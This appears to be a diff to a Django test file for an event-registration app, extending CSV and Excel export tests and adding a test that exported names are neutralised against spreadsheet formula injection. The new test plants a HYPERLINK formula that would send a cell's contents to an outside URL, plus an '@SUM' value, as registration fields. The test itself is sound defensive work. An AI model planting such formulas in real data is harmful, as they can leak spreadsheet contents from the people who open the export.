@@ -9,9 +9,11 @@ from django.contrib.auth.models import Group, Permission
 from django.core import mail
 from django.test import Client, RequestFactory
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 from wagtail import hooks
 
+from core.models import Role
 from events import services
 from events.models import Registration
 from events.models import RegistrationState as State
@@ -198,14 +200,58 @@ def test_export_per_session_to_csv_and_excel(client: Client, full_session, edito
     client.force_login(editor)
     response = client.get(INDEX, {"session": full_session.pk, "export": "csv"}, **HOST)
     assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
+    day = f"{timezone.localtime(full_session.starts_at):%d-%m-%Y}"
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="inschrijvingen-training-bejegening-{day}.csv"'
+    )
+    assert response.getvalue().startswith("\ufeff".encode())  # Excel reads it as UTF-8
+    rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";"))
     assert rows[0][:3] == ["Bijeenkomst", "Naam", "E-mailadres"]
     assert {row[2] for row in rows[1:]} == {f"{n}@example.org" for n in "abcd"}
     assert "Op de wachtlijst" in {row[5] for row in rows[1:]}
+    registered = timezone.localtime(registration_of("a").created_at)
+    assert f"{registered:%d-%m-%Y %H:%M}" in {row[6] for row in rows[1:]}
+
+    response = client.get(INDEX, {"session": full_session.pk, "export": "xlsx"}, **HOST)
+    assert response["Content-Disposition"].endswith(f'-{day}.xlsx"')
+    sheet = load_workbook(io.BytesIO(response.getvalue())).active
+    assert sheet is not None and sheet.max_row == 5
+    created = sheet.cell(row=2, column=7)
+    assert created.number_format == "dd-mm-yyyy hh:mm"
+    assert created.value.tzinfo is None and created.value.microsecond == 0
+    assert created.value in {
+        timezone.localtime(r.created_at).replace(tzinfo=None, microsecond=0)
+        for r in Registration.objects.all()
+    }
+
+
+def test_export_neutralises_the_formulas_a_visitor_plants(client: Client, full_session, editor):
+    """Anyone can register with a name that Excel would run as a formula."""
+    formula = '=HYPERLINK("https://example.org/?"&A1;"Klik")'
+    response = client.post(
+        reverse("events:register", args=[full_session.pk]),
+        {
+            "name": formula,
+            "email": "vera@example.org",
+            "organisation_name": "@SUM(1+1)",
+            "role": Role.objects.get().pk,
+        },
+        **HOST,
+    )
+    assert response.status_code == 200 and Registration.objects.filter(name=formula).exists()
+    client.force_login(editor)
+
+    response = client.get(INDEX, {"session": full_session.pk, "export": "csv"}, **HOST)
+    rows = csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig")), delimiter=";")
+    [planted] = [row for row in rows if row[2] == "vera@example.org"]
+    assert planted[1:4] == ["'" + formula, "vera@example.org", "'@SUM(1+1)"]
 
     response = client.get(INDEX, {"session": full_session.pk, "export": "xlsx"}, **HOST)
     sheet = load_workbook(io.BytesIO(response.getvalue())).active
-    assert sheet is not None and sheet.max_row == 5
+    assert sheet is not None
+    [planted] = [row[1:4] for row in sheet.iter_rows() if row[2].value == "vera@example.org"]
+    assert [cell.value for cell in planted] == ["'" + formula, "vera@example.org", "'@SUM(1+1)"]
+    assert {cell.data_type for cell in planted} == {"s"}
 
 
 def test_evaluation_results_per_event(client: Client, session, editor):
